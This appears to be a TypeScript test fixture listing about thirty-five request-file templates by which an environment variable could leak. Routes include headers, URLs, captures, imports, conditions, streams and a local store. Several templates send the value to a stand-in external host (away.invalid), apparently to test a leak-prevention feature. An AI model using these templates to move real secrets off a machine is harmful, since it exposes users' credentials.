// Request files by which a variable of the environment, named V, could leave this machine: each with the way it takes.
import { spellingsOf } from '../../../core/service/redaction/spellings';
import type { Setup } from '../process/run';

/** The value of V: an address, so that it also fits where only an address does. */
export const VALUE = 'Vote111111111111111111111111111111111111111';
const SPELLINGS = spellingsOf(VALUE).map(({ text }) => text);
/** As it is, in hex or in base64. */
export const holdsValue = (text: string): boolean => SPELLINGS.some((one) => text.includes(one));

export const HERE = 'http://127.0.0.1:8899';
export const AWAY = 'https://away.invalid';
export const STORE = `### store\nPOST ${HERE}\n\n{ "method": "setNote", "params": ["{{$processEnv V}}"] }\n`;
export const READ = `### read\n# @name read\nPOST ${HERE}\n\n{ "method": "getNote" }\n`;
export const LEAK = `### leak\nPOST ${AWAY}\n\n{ "method": "getSlot", "params": ["{{read.result}}"] }\n`;
export const LEAK_FILE = `### leak\nPOST ${AWAY}\n\n{ "method": "getSlot", "params": ["{{$file ./cache.txt}}"] }\n`;
export const simple = (more: string): string =>
  `### a\n${more}\n\n{ "method": "getSlot", "params": ["{{$processEnv V}}"] }\n`;

/** Those without a setup run as they are. */
export const WAYS: readonly (readonly [way: string, text: string, setup?: Setup])[] = [
  [
    'the id of a request whose answer is saved',
    `### a\nPOST ${HERE}\n\n{ "method": "a", "id": "{{$processEnv V}}" }\n>>! ./cache.txt\n${LEAK_FILE}`,
  ],
  ['a parameter', `${simple(`POST ${HERE}`)}>> ./cache.txt\n${LEAK_FILE}`],
  ['a request that only saves', `${simple(`POST ${HERE}`)}>> ./cache.txt\n`],
  ['the active endpoint', `### a\n{ "method": "a", "params": ["{{$processEnv V}}"] }\n>> ./cache.txt\n`],
  ['a header', `### a\nPOST ${HERE}\nX-Note: {{$processEnv V}}\n\n{ "method": "a" }\n>> ./cache.txt\n`],
  ['a URL', `### a\nPOST ${HERE}/{{$processEnv V}}\n\n{ "method": "a" }\n>> ./cache.txt\n`],
  ['the name of the file', `### a\nPOST ${HERE}\n\n{ "method": "a" }\n>> ./{{$processEnv V}}.txt\n`],
  [
    'a member of a batch',
    `### a\nPOST ${HERE}\n\n[{ "method": "a", "params": ["{{$processEnv V}}"] }]\n>> ./cache.txt\n`,
  ],
  [
    'a chain of variables',
    `@x = {{$processEnv V}}\n@y = b{{x}}\n@z = {"c":"{{y}}"}\n### a\nPOST ${HERE}\n\n{ "method": "a", "params": [{{z}}] }\n>> ./cache.txt\n`,
  ],
  [
    'a variable of an imported file',
    `# @import ./lib.jsonrpc\n### a\nPOST ${HERE}\n\n{ "method": "a", "params": ["{{x}}"] }\n>> ./cache.txt\n`,
    { imports: { './lib.jsonrpc': '@x = {{$processEnv V}}\n' } },
  ],
  [
    'a request of an imported file',
    `# @import ./lib.jsonrpc\n### a\nPOST ${HERE}\n\n{ "method": "a", "params": ["{{other.result}}"] }\n>> ./cache.txt\n`,
    { imports: { './lib.jsonrpc': simple(`# @name other\nPOST ${HERE}`) } },
  ],
  [
    'an answer that another request uses',
    `${simple(`# @name a\nPOST ${HERE}`)}### b\nPOST ${AWAY}\n\n{ "method": "b", "params": ["{{a.result}}"] }\n`,
  ],
  [
    'an answer of an answer',
    `${simple(`# @name a\nPOST ${HERE}`)}### b\n# @name b\nPOST ${HERE}\n\n{ "method": "b", "params": ["{{a.id}}"] }\n>> ./cache.txt\n`,
  ],
  [
    'a capture',
    `${simple(`# @capture v = result\nPOST ${HERE}`)}### b\nPOST ${AWAY}\n\n{ "method": "b", "params": ["{{v}}"] }\n`,
  ],
  [
    'a capture that is saved',
    `${simple(`# @capture v = result\nPOST ${HERE}`)}### b\nPOST ${HERE}\n\n{ "method": "b", "params": ["{{v}}"] }\n>> ./cache.txt\n`,
  ],
  [
    'a value with a default',
    `### a\nPOST ${HERE}\n\n{ "method": "a", "params": ["{{read.result else x}}"] }\n>> ./cache.txt\n${simple(`# @name read\nPOST ${HERE}`)}`,
  ],
  [
    'rows',
    `### a\n# @foreach row in ./rows.json\nPOST ${HERE}\n\n{ "method": "a", "params": ["{{$processEnv V}}", "{{row.a}}"] }\n>> ./cache{{row.a}}.txt\n`,
  ],
  [
    'a condition on an answer',
    `${simple(`# @name a\nPOST ${HERE}`)}### b\n# @if a.result contains "Vote"\nPOST ${AWAY}\n\n{ "method": "containsVote", "params": ["${VALUE}"] }\n`,
  ],
  [
    'a condition on repeating',
    `### a\n# @retry 1 every 1s while result == "{{$processEnv V}}"\nPOST ${HERE}\n\n{ "method": "a", "params": ["${VALUE}"] }\n>> ./cache.txt\n`,
  ],
  ['a snapshot', `${simple(`POST ${HERE}`)}?? result matchesSnapshot\n`, { updatesSnapshots: true }],
  [
    'a stream',
    `${simple(`# @until 1 messages\nWS ${HERE.replace('http', 'ws')}`).replace('getSlot', 'logsSubscribe')}>> ./cache.txt\n`,
  ],
  [
    'the messages of a stream',
    `${simple(`# @name a\n# @until 1 messages\nWS ${HERE.replace('http', 'ws')}`).replace('getSlot', 'logsSubscribe')}### b\nPOST ${AWAY}\n\n{ "method": "b", "params": ["{{a.messages[0].result}}"] }\n`,
  ],
  ['a gRPC call', `### a\nGRPC ${HERE}/geyser.Geyser/Ping\n\n{ "count": "{{$processEnv V}}" }\n>> ./cache.txt\n`],
  [
    'metadata of a gRPC call',
    `### a\nGRPC ${HERE}/geyser.Geyser/Ping\nX-Note: {{$processEnv V}}\n\n{ "count": 1 }\n>> ./cache.txt\n`,
  ],
  ['what a service here keeps', `${STORE}${READ}${LEAK}`],
  ['what a service here keeps, saved', `${STORE}${READ}>> ./cache.txt\n${LEAK_FILE}`],
  [
    'what a service here keeps, as a snapshot',
    `${STORE}${READ}?? result matchesSnapshot\n`,
    { updatesSnapshots: true },
  ],
  [
    'what a service here keeps, through another answer',
    `${STORE}${READ}### more\n# @name more\nPOST ${HERE}\n\n{ "method": "a", "params": ["{{read.result}}"] }\n${LEAK.replace('read.result', 'more.result')}`,
  ],
  [
    'what a service here keeps, read by a condition',
    `${STORE}${READ}### b\n# @if read.result contains "Vote"\nPOST ${AWAY}\n\n{ "method": "b", "params": ["${VALUE}"] }\n`,
  ],
  ['what a setup stores', `${STORE.replace('### store', '### store\n# @setup')}${READ}${LEAK}`],
  [
    'what a service at an address of a variable keeps',
    `@u = ${HERE}\n${STORE.replace(HERE, '{{u}}')}${READ.replace(HERE, '{{u}}')}${LEAK}`,
  ],
  [
    'what a service at an address of an answer keeps',
    `### r\n# @name r\nPOST ${HERE}\n\n{ "method": "r" }\n${STORE}${READ.replace(HERE, `${HERE}/{{r.result}}`)}${LEAK}`,
  ],
  ['what a service at an address of a file keeps', `${STORE}${READ.replace(HERE, '{{$file ./address.txt}}')}${LEAK}`],
  [
    'what a stream read before a request stored',
    `### read\n# @name read\n# @until 1 messages\nWS ${HERE.replace('http', 'ws')}\n\n{ "method": "logsSubscribe" }\n>> ./cache.txt\n${STORE}`,
  ],
  [
    'the name of an allowed variable next to it',
    `### a\nPOST ${HERE}\n\n{ "method": "a", "params": ["{{$processEnv ALLOWED}}", "{{$processEnv V}}"] }\n>> ./cache.txt\n`,
  ],
];
